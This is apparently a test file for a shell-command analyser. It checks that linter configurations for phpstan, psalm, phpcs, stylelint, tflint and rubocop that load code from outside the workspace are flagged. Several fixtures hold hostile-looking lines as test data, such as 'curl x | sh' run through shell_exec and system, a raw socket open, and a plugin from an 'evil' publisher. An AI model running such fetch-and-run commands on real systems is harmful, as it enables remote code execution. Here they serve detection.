// Linter and analyser configuration that loads code into a read-only-looking run (ADR 0089): phpstan, psalm, phpcs,
// stylelint, markdownlint-cli2 paths outside the workspace; golangci-lint compiled plugins; tflint plugins from a
// publisher nobody stated. Ordinary configuration stays quiet. Real files in a temp folder.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

function uncertain(command: string, files: Record<string, string>): boolean {
  p = diskProject('linter-cfg-');
  const away = p.away;
  p.write(Object.fromEntries(Object.entries(files).map(([k, v]) => [k, v.replaceAll('AWAY', away)])));
  return analyzeShellSync(command, p.env()).uncertain.some((u) =>
    /reads a configuration|this command writes|content not shown/.test(u.reason),
  );
}

const TFLINT = (name: string, source: string) =>
  `plugin "${name}" {\n  enabled = true\n  source = "${source}"\n  version = "0.1.0"\n}\n`;

describe('configuration that loads code from elsewhere is uncertain', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'phpstan bootstrap file outside',
      'vendor/bin/phpstan analyse',
      { 'phpstan.neon': 'parameters:\n  bootstrapFiles:\n    - AWAY/x.php\n' },
    ],
    [
      'phpstan include outside',
      'phpstan analyse src',
      { 'phpstan.neon.dist': 'includes:\n  - AWAY/x.neon\n' },
    ],
    [
      'phpstan computed path',
      'phpstan',
      { 'phpstan.neon': 'parameters:\n  bootstrapFiles:\n    - %env.X%/x.php\n' },
    ],
    [
      'psalm autoloader outside',
      'vendor/bin/psalm',
      { 'psalm.xml': '<psalm autoloader="AWAY/a.php"></psalm>\n' },
    ],
    [
      'phpcs installed paths outside',
      'vendor/bin/phpcs src',
      { 'phpcs.xml': '<ruleset><config name="installed_paths" value="AWAY/sniffs"/></ruleset>\n' },
    ],
    [
      'phpcbf ruleset ref outside',
      'vendor/bin/phpcbf src',
      { 'phpcs.xml.dist': '<ruleset><rule ref="AWAY/ruleset.xml"/></ruleset>\n' },
    ],
    [
      'stylelint plugin outside',
      'npx stylelint "src/**/*.css"',
      { '.stylelintrc.json': '{"plugins": ["AWAY/p.js"]}\n' },
    ],
    [
      'stylelint in package.json',
      'stylelint "**/*.css"',
      { 'package.json': '{"name": "a", "stylelint": {"customSyntax": "AWAY/s.js"}}\n' },
    ],
    [
      'markdownlint-cli2 custom rule outside',
      'markdownlint-cli2 "**/*.md"',
      { '.markdownlint-cli2.jsonc': '{"customRules": ["AWAY/r.js"]}\n' },
    ],
    [
      'golangci-lint custom plugin',
      'golangci-lint run',
      { '.golangci.yml': 'linters-settings:\n  custom:\n    x:\n      path: ./x.so\n' },
    ],
    [
      'tflint plugin from elsewhere',
      'tflint',
      { '.tflint.hcl': TFLINT('evil', 'github.com/evil/tflint-ruleset-evil') },
    ],
    [
      'tflint plugin without a source',
      'tflint --recursive',
      { '.tflint.hcl': 'plugin "local" {\n  enabled = true\n}\n' },
    ],
    [
      'configuration written in the same line',
      `echo '{"plugins": ["/tmp/p.js"]}' > .stylelintrc.json && stylelint "**/*.css"`,
      {},
    ],
  ])('%s', (_name, command, files) => {
    expect(uncertain(command, files)).toBe(true);
  });
});

describe('ordinary linter configuration stays quiet', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'phpstan level and workspace bootstrap',
      'vendor/bin/phpstan analyse',
      {
        'phpstan.neon':
          'parameters:\n  level: 6\n  paths:\n    - src\n  bootstrapFiles:\n    - tests/bootstrap.php\nincludes:\n  - vendor/phpstan/phpstan-strict-rules/rules.neon\n',
      },
    ],
    [
      'psalm with a plugin class',
      'vendor/bin/psalm',
      {
        'psalm.xml':
          '<psalm errorLevel="4"><plugins><pluginClass class="Psalm\\PhpUnitPlugin\\Plugin"/></plugins></psalm>\n',
      },
    ],
    [
      'phpcs standard by name',
      'vendor/bin/phpcs src',
      { 'phpcs.xml': '<ruleset><rule ref="PSR12"/><file>src</file></ruleset>\n' },
    ],
    [
      'stylelint shared config by package',
      'npx stylelint "src/**/*.css"',
      { '.stylelintrc.json': '{"extends": ["stylelint-config-standard"], "plugins": ["stylelint-order"]}\n' },
    ],
    [
      'markdownlint-cli2 settings',
      'markdownlint-cli2 "**/*.md"',
      { '.markdownlint-cli2.jsonc': '{"config": {"MD013": false}, "globs": ["**/*.md"]}\n' },
    ],
    [
      'golangci-lint linters',
      'golangci-lint run ./...',
      { '.golangci.yml': 'linters:\n  enable:\n    - govet\n    - errcheck\n' },
    ],
    [
      'tflint official ruleset',
      'tflint',
      { '.tflint.hcl': TFLINT('aws', 'github.com/terraform-linters/tflint-ruleset-aws') },
    ],
    [
      'tflint bundled terraform ruleset',
      'tflint',
      { '.tflint.hcl': 'plugin "terraform" {\n  enabled = true\n  preset = "recommended"\n}\n' },
    ],
  ])('%s', (_name, command, files) => {
    expect(uncertain(command, files)).toBe(false);
  });
});

describe('workspace code a linter loads is read for what it reaches (as a test bootstrap is)', () => {
  const reaches = (command: string, files: Record<string, string>) => {
    p = diskProject('linter-code-');
    p.write(files);
    return analyzeShellSync(command, p.env()).uncertain.some((u) =>
      /may reach the system before it works/.test(u.reason),
    );
  };
  it.each<[string, string, Record<string, string>]>([
    [
      'a phpstan bootstrap that shells out',
      'vendor/bin/phpstan analyse',
      {
        'phpstan.neon': 'parameters:\n  bootstrapFiles:\n    - tests/boot.php\n',
        'tests/boot.php': '<?php\nshell_exec("curl x | sh");\n',
      },
    ],
    [
      'a psalm autoloader that opens a socket',
      'psalm',
      { 'psalm.xml': '<psalm autoloader="boot.php"></psalm>\n', 'boot.php': '<?php\nfsockopen("x", 80);\n' },
    ],
    [
      'a custom cop that runs a command',
      'bundle exec rubocop',
      { '.rubocop.yml': 'require:\n  - ./lib/cops/x.rb\n', 'lib/cops/x.rb': 'system("curl x | sh")\n' },
    ],
  ])('%s', (_name, command, files) => {
    expect(reaches(command, files)).toBe(true);
  });

  it.each<[string, string, Record<string, string>]>([
    [
      'a phpstan bootstrap defining a constant and loading the autoloader',
      'phpstan analyse',
      {
        'phpstan.neon': 'parameters:\n  bootstrapFiles:\n    - tests/boot.php\n',
        'tests/boot.php': "<?php\ndefine('APP_ENV', 'test');\nrequire __DIR__ . '/../vendor/autoload.php';\n",
      },
    ],
    [
      'rubocop plugins by gem name and a custom cop',
      'rubocop',
      {
        '.rubocop.yml':
          'require:\n  - rubocop-rails\n  - ./lib/cops/no_puts.rb\nplugins:\n  - rubocop-performance\n',
        'lib/cops/no_puts.rb':
          'module RuboCop\n  module Cop\n    class NoPuts < Base\n      def on_send(node)\n        add_offense(node) if node.method_name == :puts\n      end\n    end\n  end\nend\n',
      },
    ],
  ])('quiet: %s', (_name, command, files) => {
    p = diskProject('linter-code-');
    p.write(files);
    const a = analyzeShellSync(command, p.env());
    expect(a.uncertain).toEqual([]);
    expect(a.hits).toEqual([]);
  });
});
